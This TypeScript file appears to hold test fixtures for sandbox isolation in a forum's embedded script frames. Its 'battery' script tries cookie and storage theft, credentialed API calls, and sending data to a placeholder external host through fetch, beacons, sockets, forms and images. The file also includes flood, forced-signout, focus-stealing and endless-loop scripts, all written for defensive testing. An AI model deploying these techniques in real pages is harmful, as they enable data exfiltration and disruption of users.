/** The address of a server that must not receive anything, as the fragments below name it. */
export const elsewherePlaceholder = '__elsewhere__';

/**
 * A script that tries everything that a fragment must not do, and writes what succeeded as JSON. It runs in the frame.
 */
export const battery = `
(async () => {
const reached = {};
const attempt = async (name, act) => {
  const late = new Promise((resolve) => setTimeout(resolve, 700, 'no answer'));
  try {
    const result = await Promise.race([act(), late]);
    if (result !== 'no answer' && result !== undefined && result !== null) reached[name] = String(result).slice(0, 80);
  } catch {}
};
const elsewhere = '${elsewherePlaceholder}';
const loads = (element, name, address) =>
  new Promise((resolve) => {
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('no answer');
    element[name] = address;
    document.body.append(element);
  });
await attempt('cookie', () => document.cookie);
await attempt('local storage', () => localStorage.length);
await attempt('session storage', () => sessionStorage.length);
await attempt('database', () => indexedDB.open('x').readyState);
await attempt('caches', () => caches.keys());
await attempt('page', () => parent.document.title);
await attempt('address of the page', () => parent.location.href);
await attempt('top', () => { top.location = elsewhere; return 'left'; });
await attempt('API', async () => (await fetch('/api/v2/users/me')).status);
await attempt('API with cookies', async () => (await fetch('/api/v2/users/me', { credentials: 'include', mode: 'no-cors' })).type);
await attempt('other site', async () => (await fetch(elsewhere, { mode: 'no-cors' })).type);
await attempt('request', () => new Promise((resolve) => {
  const request = new XMLHttpRequest();
  request.onload = () => resolve(request.status);
  request.open('GET', '/api/v2/users/me');
  request.send();
}));
await attempt('beacon', () => { navigator.sendBeacon(elsewhere + '/beacon', 'x'); });
await attempt('event stream', () => new Promise((resolve) => { new EventSource('/api/v2/live').onopen = () => resolve('open'); }));
await attempt('socket', () => new Promise((resolve) => { new WebSocket(elsewhere.replace('http', 'ws')).onopen = () => resolve('open'); }));
await attempt('picture', () => loads(new Image(), 'src', elsewhere + '/picture.png'));
await attempt('style sheet', () => loads(Object.assign(document.createElement('link'), { rel: 'stylesheet' }), 'href', elsewhere + '/style.css'));
await attempt('script', () => import(elsewhere + '/script.js'));
await attempt('inner frame', () => { loads(document.createElement('iframe'), 'src', elsewhere + '/inner'); });
await attempt('popup', () => open(elsewhere + '/popup'));
await attempt('form', () => {
  const form = Object.assign(document.createElement('form'), { action: elsewhere + '/form', method: 'post' });
  document.body.append(form);
  form.submit();
});
await attempt('download', () => {
  const link = Object.assign(document.createElement('a'), { href: 'data:text/plain,x', download: 'x.txt' });
  document.body.append(link);
  link.click();
});
await attempt('message box', () => { if (confirm('x')) return 'confirmed'; });
await attempt('clipboard', () => navigator.clipboard.readText());
await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
await attempt('position', () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(resolve)));
await attempt('worker', () => new Promise((resolve) => { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = resolve; }));
await attempt('evaluation', () => new Function('return 1')());
await attempt('peer connection', () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(elsewhere).host }] }).createOffer());
await attempt('history', () => { history.back(); });
await attempt('leaving without a press', () => { fragment.navigate('/members'); });
document.body.textContent = JSON.stringify(reached);
})();
`;

/** Scripts whose frame must be removed from the page, by name. */
export const removed = {
  'Message flood': 'for (let i = 0; i < 10000; i += 1) fragment.navigate("/");',
  'Window flood': 'setTimeout(() => { for (let i = 0; i < 100000; i += 1) parent.postMessage("x", "*"); }, 300);',
  'Leaving for another site': `setTimeout(() => { location.href = '${elsewherePlaceholder}/left'; }, 300);`,
  'Leaving for a page of the forum': "setTimeout(() => { location.href = '/entry/signout'; }, 300);",
  'Broken script': 'nothing.at.all();',
  'Never ready': 'await new Promise(() => undefined);',
} as const;

/** A script that takes the focus again and again, and shows what was typed into it. */
export const thief = `
const field = document.createElement('input');
document.body.append(field);
setInterval(() => field.focus(), 100);
`;

/** A script that never ends. */
export const endless = 'for (;;) {}';
